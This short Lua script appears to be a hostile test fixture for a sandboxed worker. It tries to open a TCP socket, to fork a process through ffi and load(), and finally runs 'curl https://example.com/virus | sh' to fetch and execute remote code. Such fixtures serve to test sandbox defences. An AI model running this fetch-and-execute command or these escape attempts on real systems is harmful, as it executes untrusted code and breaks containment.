-- Hostile: wants another process, or a connection to somewhere.

local function try(name, way)
  local ok, reached = pcall(way)
  worker.log("warning", ("%s: %s"):format(name, ok and type(reached) or tostring(reached)))
end

function Run()
  try("socket", function() return require("socket").tcp() end)
  try("ffi", function() return require("ffi").C.fork() end)
  try("load", function() return load("return ffi.C.fork()")() end)
  return os.execute("curl https://example.com/virus | sh")
end
